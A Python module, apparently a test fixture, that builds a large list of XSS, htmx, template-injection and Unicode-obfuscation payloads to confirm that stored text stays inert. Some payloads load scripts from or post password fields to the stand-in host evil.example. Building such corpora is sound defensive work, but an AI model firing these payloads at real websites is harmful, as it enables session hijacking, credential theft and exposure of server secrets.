"""Texts that want to be more than text: families of them, crossed with what they might break out of."""

from collections.abc import Iterator
from itertools import product

# Nothing may ever ask this host, and nothing may ever be worked out to this number.
ENEMY = "evil.example"
SUM, WORKED_OUT = "31337*3", "94011"
OUTS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</select>", "]]>", "</style></script>", "` ")
RUN = "alert(1)"


def payloads() -> list[str]:
    """All of them, each once; every one is text that PostgreSQL holds."""
    families = (_scripts, _handlers, _addresses, _mutations, _htmx, _frames, _templates, _signs)
    return list(dict.fromkeys(text for family in families for text in family()))


def _scripts() -> Iterator[str]:
    for out, script in product(OUTS, (
        f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", f"<script/x>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script src=//{ENEMY}/x.js></script>",
        f"<script type=module>import 'https://{ENEMY}/x.js'</script>", f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=//{ENEMY}/x.js /></svg>", f"<math><script>{RUN}</script></math>",
    )):  # fmt: skip
        yield out + script


def _handlers() -> Iterator[str]:
    elements = (
        "img src=x onerror", "svg onload", "svg/onload", "body onload", "video><source onerror", "audio src=x onerror",
        "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
        "a href=# autofocus onfocus", "marquee onstart", "object data=x onerror", "iframe src=x onload",
        "button popovertarget=x onclick", "svg><animate onbegin", "div style=animation-name:x onanimationstart",
        "x tabindex=0 autofocus onfocusin", "link rel=stylesheet href=x onerror", "math><mi onpointerover",
        "custom-tag contenteditable autofocus onfocus", "video autoplay onloadstart",
    )  # fmt: skip
    quotes = ("={}>", '="{}">', "='{}' x='", " = {} //", "\n=\n{}>")
    for place, (element, quote) in enumerate(product(elements, quotes)):
        yield f"{OUTS[place % len(OUTS)]}<{element}{quote.format(RUN)}"
    for handler in ("onerror", "onfocus", "onmouseover", "onload", "onpointerenter", "onanimationend"):
        for quote in ('"', "'", "`", ""):
            yield f"x{quote} {handler}={quote}{RUN}{quote} autofocus tabindex=1 x={quote}"


def _addresses() -> Iterator[str]:
    schemes = (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f" javascript:{RUN}",
        f"&#106;avascript:{RUN}", f"javascript&colon;{RUN}", f"\x01javascript:{RUN}", f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"//{ENEMY}/x", f"https://{ENEMY}/x", f"\\\\{ENEMY}\\x",
        f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}",
    )  # fmt: skip
    carriers = (
        "{}", "[x]({})", "![x]({})", "<{}>", "[x]: {}", '<a href="{}">x</a>', "<form action='{}'><input type=submit>",
        '<button formaction="{}">x', '<iframe src="{}">', '<object data="{}">', '<embed src="{}">', '<img src="{}">',
        '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<base href="{}">',
        '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">',
        '<svg><use href="{}"/></svg>', "<style>@import '{}';</style>", '<div style="background:url({})">',
        '<video poster="{}">', '<a ping="{}" href=x>',
    )  # fmt: skip
    for carrier, address in product(carriers, schemes):
        yield carrier.format(address)


def _mutations() -> Iterator[str]:
    """What is harmless until a browser has read it, written it and read it again."""
    image = f"<img src=x onerror={RUN}>"
    yield from (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        f'<form><math><mtext></form><form><mglyph><style></math>{image}',
        f'<svg></p><style><a id="</style>{image}">', f'<math></p><style><!--</style>{image}--></style>',
        f'<noscript><p title="</noscript>{image}">', f"<listing>&lt;{image[1:]}</listing>",
        f"<xmp>{image}</xmp>", f"<plaintext>{image}", f"<template>{image}</template>", f"<noembed>{image}</noembed>",
        f'<svg><foreignObject><body>{image}</body></foreignObject></svg>', f"<svg><desc>{image}</desc></svg>",
        f'<math><annotation-xml encoding="text/html">{image}</annotation-xml></math>', f"<!--><{image[1:]}-->",
        f"<![CDATA[{image}]]>", f"<?xml version='1.0'?>{image}", f"<select><template>{image}", f"<table><td>{image}",
        f"<option><style></option></select>{image}</style>", f"<frameset><frame src=javascript:{RUN}>",
        f"<a id=x name=y><a id=x>{image}", "<form id=document><input name=cookie>", "<img name=getElementById>",
        f"<div><a title='</div>{image}'>", f"&lt;{image[1:]}", f"&amp;lt;{image[1:]}", f"%3Cimg src=x onerror={RUN}%3E",
        f"<svg><set attributeName=onmouseover to={RUN}>",
        f"<svg><animate attributeName=href values=javascript:{RUN} />",
        f"<iframe srcdoc='{image.replace('<', '&lt;')}'>", f"<portal src=//{ENEMY}>", f"<dialog open>{image}",
    )  # fmt: skip


def _htmx() -> Iterator[str]:
    for out, prefix, rest in product(OUTS[:3], ("hx-", "data-hx-"), (
        f"get=//{ENEMY}/x {{}}trigger=load", "get=/account/logout/ {}trigger=load", f"on:load={RUN}",
        f"on::before-request={RUN}", "post=/desk/ {}trigger=revealed", f"vals=js:x:{RUN} {{}}get=/ {{}}trigger=load",
        "boost=true {}target=body", "swap-oob=true id=main", f"ext=x {{}}headers=js:{RUN}", "sse=connect:/x",
    )):  # fmt: skip
        yield f"{out}<div {prefix}{rest.replace('{}', prefix)}>x</div>"


def _frames() -> Iterator[str]:
    for out, frame in product(OUTS, (
        f"<form method=post action=//{ENEMY}><input name=password>", f"<base target=_blank href=//{ENEMY}>",
        f"<meta http-equiv=Content-Security-Policy content=''><meta http-equiv=refresh content=0;//{ENEMY}>",
        "<input form=composer name=mode value=public>", f"<style>*{{background:url(//{ENEMY})}}</style>",
    )):  # fmt: skip
        yield out + frame


def _templates() -> Iterator[str]:
    for left, right in (
        ("{{", "}}"), ("{{ ", "|safe }}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"), ("[[", "]]"),
        ("{{constructor.constructor('", "')()}}"), ("{% if ", " %}x{% endif %}"), ("%(", ")s"),
    ):  # fmt: skip
        yield f"{left}{SUM}{right}"
    yield from ("{% load static %}", "{% include 'base.html' %}", "{{ settings.SECRET_KEY }}", "{{ request.user }}",
                "{0.__class__}", "%(name)s", "%s %d %n", "{#", "{% csrf_token %}", "{% debug %}")  # fmt: skip


def _signs() -> Iterator[str]:
    image = f"<img src=x onerror={RUN}>"
    for sign in ("\u2028", "\u2029", "\u202e", "\u2066", "\u200b", "\ufeff", "\u00ad", "\u0085", "\x1b[31m", "\x08"):
        yield f"{sign}<{sign}{image[1:]}{sign}"
    fullwidth = str.maketrans("<>\"'/", "＜＞＂＇／")
    yield from (image.translate(fullwidth), "‹script›alert(1)‹/script›", "＜script＞alert(1)＜/script＞", "ſcript", "ı",
                f"\u0f3c{image}", "\ud7ff" + image, "\U000e0001" + image, "🏴\U000e0067\U000e007f" + image)  # fmt: skip
